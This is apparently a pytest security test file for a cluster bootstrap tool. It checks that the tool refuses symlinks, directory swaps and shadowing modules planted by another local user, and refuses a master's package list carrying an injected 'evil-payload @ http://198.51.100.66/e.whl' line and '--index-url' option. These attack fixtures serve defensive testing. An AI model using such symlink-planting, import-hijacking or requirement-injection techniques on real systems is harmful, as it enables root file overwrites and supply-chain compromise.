"""A directory another user made (a shared scratch space) is written into by nothing bootstrap sends:
not the preflight's workdir marker (a planted link made `check` overwrite /etc/shadow), not code sync
(a planted `code` link, or a directory swapped for one between its scan and its apply, had it write
and delete in a directory the attacker chose), not the environment sync's marker; `bench --callable`
imports nothing from such a code directory (launch refused it already). And a master whose Python
answers what no package index would (a version holding a newline and `name @ URL`) is refused before
its answer becomes the requirements every node installs.

The other user is a uid no account has (chown: the tests run as root, as CI does): what the checks
look at is the owner."""

from __future__ import annotations

import dataclasses
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from orchestrator.errors import CommandFailedError
from orchestrator.inventory import load_inventory_text
from orchestrator.platforms import UNSAFE_DIR_EXIT, PosixShell
from orchestrator.render import Renderer, plan_launch
from orchestrator.steps.codesync.sync import probe_script
from orchestrator.steps.envsync.master import MasterEnv
from orchestrator.steps.envsync.ops import probe_code
from orchestrator.steps.launch import prepare_plan
from orchestrator.steps.preflight.rounds import mark_command
from orchestrator.steps.preflight.shared_fs import MARKER_CODE, MARKER_DIR, safe_path_source

OTHER = 54321  # a uid no account here has: "another local user"


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    """A file only we may change (what an attacker would aim a link at: /etc/shadow)."""
    path = tmp_path / "victim" / "precious.conf"
    path.parent.mkdir()
    path.write_text("root:secret\n")
    path.chmod(0o600)
    return path


@pytest.fixture
def scratch(tmp_path: Path) -> Path:
    """A directory the other user made first (0755, theirs), where our workdir is to go."""
    path = tmp_path / "scratch"
    path.mkdir()
    os.chown(path, OTHER, OTHER)
    return path


def test_the_preflight_marker_is_not_written_through_a_link_in_a_workdir_another_user_made(
    scratch: Path, victim: Path
) -> None:
    workdir = scratch / "wd"
    marks = workdir / MARKER_DIR
    marks.mkdir(parents=True)
    for d in (workdir, marks):
        os.chown(d, OTHER, OTHER)
    (marks / "node1").symlink_to(victim)
    os.lchown(marks / "node1", OTHER, OTHER)
    ran = subprocess.run(
        ["/bin/sh", "-c", mark_command(PosixShell(), str(workdir), MARKER_DIR, "node1", "0123456789abcdef")],
        capture_output=True,
        text=True,
        timeout=30,
    )
    assert ran.returncode == UNSAFE_DIR_EXIT, ran
    # the first directory of the path that is not ours, in the workdir verdict's words
    assert ran.stdout.startswith(f"refusing {scratch}: it belongs to another user"), ran
    assert victim.read_text() == "root:secret\n"
    # the same marker in a workdir of ours is written
    own = scratch.parent / "own-wd"
    ran = subprocess.run(
        ["/bin/sh", "-c", mark_command(PosixShell(), str(own), MARKER_DIR, "node1", "0123456789abcdef")],
        capture_output=True,
        text=True,
        timeout=30,
    )
    assert ran.returncode == 0 and (own / MARKER_DIR / "node1").read_text() == "0123456789abcdef", ran


def test_the_python_marker_refuses_the_same_workdir(scratch: Path, victim: Path) -> None:
    """The marker Windows nodes, and `check` when its round could not carry the marker, write."""
    workdir = scratch / "wd"
    marks = workdir / MARKER_DIR
    marks.mkdir(parents=True)
    os.chown(workdir, OTHER, OTHER)
    os.chown(marks, OTHER, OTHER)
    (marks / "node1").symlink_to(victim)
    args = {"op": "write", "dirs": [str(workdir)], "name": "node1", "token": "0123456789abcdef"}
    ran = subprocess.run(
        [sys.executable, "-c", safe_path_source() + MARKER_CODE, json.dumps(args)],
        capture_output=True,
        text=True,
        timeout=30,
        check=True,
    )
    said = json.loads(ran.stdout)[str(workdir)]
    assert said["error"].startswith(
        f"refusing {scratch}: it belongs to another user (owner UNKNOWN (uid {OTHER})"
    ), said
    assert victim.read_text() == "root:secret\n"


def _code_probe(args: dict[str, Any]) -> dict[str, Any]:
    ran = subprocess.run(
        [sys.executable, "-c", probe_script(), json.dumps(args)], capture_output=True, text=True, timeout=60
    )
    assert ran.returncode == 0, ran
    out: dict[str, Any] = json.loads(ran.stdout)
    return out


def test_code_sync_neither_scans_nor_writes_through_a_code_link_another_user_planted(
    scratch: Path, victim: Path
) -> None:
    dest = scratch / "code"
    dest.symlink_to(victim.parent)
    os.lchown(dest, OTHER, OTHER)
    scan = _code_probe({"op": "scan", "dest": str(dest), "rules": [], "create": True})
    assert scan["refused"].startswith(f"refusing {scratch}: it belongs to another user"), scan
    assert scan["files"] == {} and sorted(os.listdir(victim.parent)) == ["precious.conf"]


def test_code_sync_apply_checks_the_destination_again_and_deletes_nothing_through_a_swap(
    scratch: Path, victim: Path
) -> None:
    """The scan saw a real directory (with a record naming precious.conf); by the apply it is a link
    to the victim's directory. The apply asks again, before it reads, writes or deletes anything."""
    dest = scratch / "code"
    dest.symlink_to(victim.parent)
    os.lchown(dest, OTHER, OTHER)
    sha = __import__("hashlib").sha256(victim.read_bytes()).hexdigest()
    bundle = victim.parent / ".bootstrap-code-upload-0123456789ab.bundle"
    header = {"delete": [["precious.conf", sha]], "files": [], "shipped": {}}
    bundle.write_text(json.dumps(header) + "\n")
    done = _code_probe({"op": "apply", "dest": str(dest), "bundle": bundle.name})
    assert done["written"] == 0 and done["deleted"] == 0, done
    assert done["errors"][0].startswith(f"refused: refusing {scratch}: it belongs to another user"), done
    assert victim.read_text() == "root:secret\n"
    assert not (victim.parent / ".bootstrap-code-shipped.json").exists()


def test_the_environment_sync_marker_refuses_a_directory_another_user_made(
    scratch: Path, victim: Path
) -> None:
    workdir = scratch / "wd"
    (workdir / MARKER_DIR).mkdir(parents=True)
    os.chown(workdir, OTHER, OTHER)
    os.chown(workdir / MARKER_DIR, OTHER, OTHER)
    (workdir / MARKER_DIR / "node1").symlink_to(victim)
    namespace: dict[str, Any] = {"__name__": "env_probe"}
    exec(compile(probe_code(), "env_probe.py", "exec"), namespace)
    said = namespace["write_marker"](
        {"dir": str(workdir), "name": "node1", "token": "0123456789abcdef", "marker_dir": MARKER_DIR}
    )
    assert said["error"].startswith(f"refusing {scratch}: it belongs to another user"), said
    assert victim.read_text() == "root:secret\n"


def _cli(tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """The real CLI, run here with HOME in ``tmp_path``."""
    env = {**os.environ, "HOME": str(tmp_path), "NO_COLOR": "1"}
    return subprocess.run(
        [sys.executable, "-m", "orchestrator", *args],
        capture_output=True,
        text=True,
        env=env,
        cwd=tmp_path,
        timeout=120,
    )


def _env_sync(tmp_path: Path, env: Path) -> subprocess.CompletedProcess[str]:
    """`sync --only env` of a local node whose cluster.env.path is ``env``."""
    inv = tmp_path / "hosts.yaml"
    inv.write_text(
        f"cluster: {{name: c, master: here, env: {{packages: [tinya==1.0], path: {env}}}}}\n"
        f"nodes:\n  - {{name: here, connection: local, workdir: {tmp_path / 'wd'}}}\n"
    )
    return _cli(tmp_path, "-i", str(inv), "sync", "--only", "env")


def test_a_one_node_environment_sync_refuses_an_env_path_another_user_made(
    scratch: Path, victim: Path, tmp_path: Path
) -> None:
    """The marker's walk rode along only when a sync had two nodes or more: a one-node sync (or
    `--nodes X`) built into, and cleaned up, a `venv.versions` another user had linked to a directory
    of ours, deleting what was there. The probe walks the environment's directory first, always."""
    (scratch / "venv.versions").symlink_to(victim.parent)
    os.lchown(scratch / "venv.versions", OTHER, OTHER)
    run = _env_sync(tmp_path, scratch / "venv")
    assert run.returncode == 2, run
    assert f"refusing {scratch}: it belongs to another user" in run.stderr, run.stderr
    assert sorted(p.name for p in victim.parent.iterdir()) == ["precious.conf"]
    assert victim.read_text() == "root:secret\n"


def test_an_environment_link_another_user_planted_in_a_sticky_directory_is_never_run(
    tmp_path: Path,
) -> None:
    """env.path in a sticky scratch directory (/tmp) and not there yet: another user could put a link
    of theirs there first, to a "venv" whose bin/python is theirs. The probe ran that interpreter as
    root to list its packages. It walks the environment's path itself now: refused, nothing run."""
    sticky = tmp_path / "sticky"
    sticky.mkdir()
    sticky.chmod(0o1777)
    theirs = tmp_path / "theirs" / "bin"
    theirs.mkdir(parents=True)
    ran = tmp_path / "ran-as-root"
    (theirs / "python").write_text(f"#!/bin/sh\ntouch {ran}\n")
    (theirs / "python").chmod(0o755)
    (sticky / "venv").symlink_to(theirs.parent)
    os.lchown(sticky / "venv", OTHER, OTHER)
    run = _env_sync(tmp_path, sticky / "venv")
    assert run.returncode == 2, run
    assert f"refusing {sticky / 'venv'}: it belongs to another user" in run.stderr, run.stderr
    assert not ran.exists()


def test_a_build_directory_another_user_made_after_the_probe_is_refused_before_anything_goes_in(
    scratch: Path, tmp_path: Path
) -> None:
    """The probe's walk ends where the path does not exist yet; the build's directories are made in
    a later command. Another user who made one in between (won 3 of 3 times) had root's environment
    built into their directory, then swapped its link for their own python. The build's directories
    are walked once made (and again by the build): refused, nothing built."""
    from orchestrator.steps.envsync.ops import BuildPlan, PosixEnvOps

    env = scratch / "venv"  # the other user's directory appeared where env.path's parent was missing
    plan = BuildPlan(
        interpreter=sys.executable, path=str(env), build_id="b1", clone=False, installer="pip", uv=None,
        index_args=(), require_hashes=False, stamp={}, nonce="cb-0123456789ab",
    )  # fmt: skip
    ops = PosixEnvOps(PosixShell())
    for script in (ops.prepare(plan), ops.build(plan)):
        ran = subprocess.run(["/bin/sh", "-c", script], capture_output=True, text=True, timeout=60)
        assert ran.returncode == UNSAFE_DIR_EXIT, ran
        assert ran.stderr.startswith(f"refusing {scratch}: it belongs to another user"), ran
    assert not (scratch / "venv.versions" / "b1").exists()


def test_a_link_another_user_planted_where_a_parent_should_be_is_refused_before_mkdir_follows_it(
    tmp_path: Path,
) -> None:
    """env.path below a sticky scratch directory whose parent is missing: another user's link put
    there first made root's `mkdir -p` create the build directory wherever the link pointed. The
    build's directories are walked before they are made: refused, nothing created there."""
    from orchestrator.steps.envsync.ops import BuildPlan, PosixEnvOps

    sticky = tmp_path / "sticky"
    sticky.mkdir()
    sticky.chmod(0o1777)
    target = tmp_path / "roots-own"
    target.mkdir()
    (sticky / "team").symlink_to(target)
    os.lchown(sticky / "team", OTHER, OTHER)
    plan = BuildPlan(
        interpreter=sys.executable, path=str(sticky / "team" / "venv"), build_id="b1", clone=False,
        installer="pip", uv=None, index_args=(), require_hashes=False, stamp={}, nonce="cb-0123456789ab",
    )  # fmt: skip
    ran = subprocess.run(
        ["/bin/sh", "-c", PosixEnvOps(PosixShell()).prepare(plan)], capture_output=True, text=True
    )
    assert ran.returncode == UNSAFE_DIR_EXIT, ran
    assert ran.stderr.startswith(f"refusing {sticky / 'team'}: it belongs to another user"), ran
    assert list(target.iterdir()) == []


def test_the_controllers_own_python_helpers_import_nothing_from_where_bootstrap_runs(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`sync --from-master` reads this machine's torch with `python -c`, and the offline download
    runs `python -m pip` from the inventory's directory: a `json.py` (or a `pip/`) another user put in
    the directory bootstrap was started from was imported as root. They run isolated (-I) now."""
    from orchestrator.steps.envsync import wheelhouse
    from orchestrator.steps.envsync.master import read_local

    planted = tmp_path / "imported"
    for name in ("json.py", "re.py", "csv.py"):
        (tmp_path / name).write_text(f"open({str(planted)!r}, 'a').write({name!r})\n")
    (tmp_path / "pip").mkdir()
    (tmp_path / "pip" / "__main__.py").write_text(f"open({str(planted)!r}, 'a').write('pip')\n")
    (tmp_path / "pip" / "__init__.py").write_text("")
    monkeypatch.chdir(tmp_path)
    read_local()
    wheelhouse.configured_extra_indexes()
    assert not planted.exists(), planted.read_text()


def test_runs_is_not_kept_where_another_user_could_swap_a_run_directory_for_a_link(
    scratch: Path, tmp_path: Path
) -> None:
    """bootstrap keeps runs/ in the directory it is started from. Started in one another user can
    write to, root's new run directory was renamed away and a link put in its place: run.json and the
    nodes' logs went where that user chose. Such a directory is refused before any run id is taken."""
    from orchestrator.errors import UnsafeDirectoryError
    from orchestrator.runs.ids import new_run_id

    with pytest.raises(UnsafeDirectoryError) as refused:
        new_run_id("lab", root=scratch / "runs")  # started in the other user's directory
    assert str(refused.value).startswith(f"refusing {scratch}: it belongs to another user"), refused.value
    assert "start it from a directory only you or root can write to" in str(refused.value)
    assert not (scratch / "runs").exists()
    theirs = tmp_path / "own" / "runs"  # our directory, with a runs/ another user made in it
    theirs.mkdir(parents=True)
    os.chown(theirs, OTHER, OTHER)
    with pytest.raises(UnsafeDirectoryError):
        new_run_id("lab", root=theirs)
    assert list(theirs.iterdir()) == []
    assert new_run_id("lab", root=tmp_path / "mine" / "runs").startswith("lab-")  # ours: as always


def test_clean_looks_at_nothing_in_a_code_directory_another_user_can_change(
    scratch: Path, tmp_path: Path
) -> None:
    """`clean` had no path check: another user who owns the code directory's parent could swap it
    for a link to a directory of ours while the files its (forged) record names were hashed, and root
    deleted ours. A code directory (workdir, environment) another user can change is refused whole."""
    import hashlib

    code = scratch / "code"
    code.mkdir()
    (code / "a.txt").write_text("ours?\n")
    digest = hashlib.sha256(b"ours?\n").hexdigest()
    (code / ".bootstrap-code-shipped.json").write_text(json.dumps({"files": {"a.txt": digest}}))
    inv = tmp_path / "hosts.yaml"
    inv.write_text(
        f"cluster: {{name: c, master: here, code: {{source: ., dest: {code}}}}}\n"
        f"nodes:\n  - {{name: here, connection: local, workdir: {tmp_path / 'wd'}}}\n"
    )
    run = _cli(tmp_path, "-i", str(inv), "clean", "--yes")
    assert f"refusing {scratch}: it belongs to another user" in run.stderr, run
    assert run.returncode == 2 and "nothing was removed on this node" in run.stderr, run
    assert (code / "a.txt").read_text() == "ours?\n" and (code / ".bootstrap-code-shipped.json").exists()


def test_bench_callable_refuses_a_code_directory_another_user_owns_before_anything_starts(
    scratch: Path, tmp_path: Path
) -> None:
    from orchestrator.bench.probe import probe_specs

    code = scratch / "code"
    code.mkdir()
    os.chown(code, OTHER, OTHER)
    text = (
        "cluster:\n  name: lab\n  master: n1\n  train: {script: train.py, code_dir: '" + str(code) + "'}\n"
        "nodes:\n  - {name: n1, host: 127.0.0.1, workdir: '" + str(tmp_path / "wd") + "'}\n"
    )
    inventory = load_inventory_text(text, "lab.yaml")
    specs = plan_launch(
        inventory,
        backend="gloo",
        master_addr="127.0.0.1",
        run_id="bench-lab-1",
        interfaces={"n1": ("lo", "127.0.0.1")},
        cpus={"n1": 1},
        pythons={"n1": "python3"},
    )
    (spec,) = probe_specs(specs, batch_size=8, repeats=1, seconds=0.1, timeout=5, workload="mymod:make_step")
    assert spec.imports_from == str(code)
    plan = prepare_plan(spec.node, PosixShell(), dataclasses.replace(spec, node_rank=1), renderer=Renderer())
    prepare = plan.runs[0].script
    ran = subprocess.run(["/bin/sh", "-c", prepare], capture_output=True, text=True, timeout=30)
    assert ran.returncode == UNSAFE_DIR_EXIT, ran
    assert f"refusing {scratch}: it belongs to another user" in ran.stderr, ran
    assert not (tmp_path / "wd" / "runs").exists()  # refused before the run directory was made
    # the built-in workload imports nothing from there: not checked, not refused
    (plain,) = probe_specs(specs, batch_size=8, repeats=1, seconds=0.1, timeout=5)
    assert plain.imports_from == ""


def test_a_master_answer_that_is_no_package_version_is_refused_whole() -> None:
    answer = {
        "python": "3.11.7",
        "platform": "linux",
        "torch": {"version": "2.13.0+cpu"},
        "packages": {"torch": "2.13.0+cpu", "numpy": "2.4.6\nevil-payload @ http://198.51.100.66/e.whl"},
        "portable": ["numpy"],
    }
    with pytest.raises(CommandFailedError, match=r"reported version '2\.4\.6\\nevil-payload") as refused:
        MasterEnv.parse("node1: /usr/bin/python3", answer, "node1")
    assert refused.value.node == "node1" and "nothing was written or installed" in str(refused.value)
    for field, value in (("python", "3.11.7\n--index-url http://198.51.100.66/simple"),):
        with pytest.raises(CommandFailedError, match="no Python version"):
            MasterEnv.parse("node1: /usr/bin/python3", {**answer, "packages": {}, field: value}, "node1")
    with pytest.raises(CommandFailedError, match="no package name"):
        MasterEnv.parse("m", {**answer, "packages": {"--trusted-host x": "1.0"}}, "node1")
    fine = MasterEnv.parse("m", {**answer, "packages": {"torch": "2.13.0+cpu", "numpy": "2.4.6"}}, "node1")
    assert fine.packages == {"torch": "2.13.0+cpu", "numpy": "2.4.6"} and fine.portable == {"numpy"}


@pytest.mark.parametrize("writer", ["check", "python", "code"])
def test_a_link_where_the_nodes_markers_go_is_refused_never_written_through(
    tmp_path: Path, victim: Path, writer: str
) -> None:
    """In a workdir or code directory of ours, a link put where the markers' directory goes (a run's
    code can; on a shared file system, another node) made every writer create or replace
    ``<its target>/<node>``: check's sh marker, the Python marker (Windows nodes, the env sync) and
    code sync's. Each now refuses it and writes nothing there; a link at the marker's own name is
    replaced, never written through."""
    target = victim.parent
    (target / "node1").write_text("original\n")
    workdir = tmp_path / "wd"
    workdir.mkdir()
    name = ".bootstrap-code-nodes" if writer == "code" else MARKER_DIR
    (workdir / name).symlink_to(target)
    token = "0123456789abcdef"
    marker = {"name": "node1", "token": token}
    if writer == "check":
        command = mark_command(PosixShell(), str(workdir), MARKER_DIR, "node1", token)
        ran = subprocess.run(["/bin/sh", "-c", command], capture_output=True, text=True, timeout=30)
        assert ran.returncode == 1 and "not a directory of its own" in ran.stdout, ran
    elif writer == "python":
        args = {"op": "write", "dirs": [str(workdir)], "name": "node1", "token": token}
        ran = subprocess.run(
            [sys.executable, "-c", safe_path_source() + MARKER_CODE, json.dumps(args)],
            capture_output=True, text=True, timeout=30, check=True,
        )  # fmt: skip
        assert "not a directory of its own" in json.loads(ran.stdout)[str(workdir)]["error"], ran
    else:
        args = {"op": "scan", "dest": str(workdir), "rules": [], "create": True, "marker": marker}
        scan = _code_probe(args)
        assert "not a directory of its own" in scan["marker_error"], scan
    assert (target / "node1").read_text() == "original\n" and victim.read_text() == "root:secret\n"
    # a real directory, with a link at the node's own name: the link is replaced, its target kept
    (workdir / name).unlink()
    (workdir / name).mkdir()
    (workdir / name / "node1").symlink_to(victim)
    if writer == "check":
        command = mark_command(PosixShell(), str(workdir), MARKER_DIR, "node1", token)
        assert subprocess.run(["/bin/sh", "-c", command], capture_output=True, timeout=30).returncode == 0
    elif writer == "python":
        args = {"op": "write", "dirs": [str(workdir)], "name": "node1", "token": token}
        subprocess.run([sys.executable, "-c", safe_path_source() + MARKER_CODE, json.dumps(args)], check=True)
    else:
        _code_probe({"op": "scan", "dest": str(workdir), "rules": [], "create": True, "marker": marker})
    marker_file = workdir / name / "node1"
    assert not marker_file.is_symlink() and marker_file.read_text() == token
    assert victim.read_text() == "root:secret\n"


def test_an_upload_to_this_machine_replaces_a_link_at_its_target_never_writes_through_it(
    tmp_path: Path, victim: Path
) -> None:
    """`connection: local` (the master itself, the embedded default): a link a run's code put where
    launch uploads the training script or its record had the upload truncate and rewrite the file it
    pointed at (os.open with O_TRUNC followed it), as root. The SFTP and shell uploads write a new file
    and rename it; so does this one now."""
    from orchestrator.transports.local import LocalTransport

    code = tmp_path / "code"
    code.mkdir()
    (code / "train.py").symlink_to(victim)
    source = tmp_path / "train.py"
    source.write_text("print('the project')\n")
    LocalTransport("here", PosixShell()).put(source, str(code / "train.py"), mode=0o644)
    assert victim.read_text() == "root:secret\n"
    assert not (code / "train.py").is_symlink()
    assert (code / "train.py").read_text() == "print('the project')\n"
    assert sorted(p.name for p in code.iterdir()) == ["train.py"]  # no part left behind
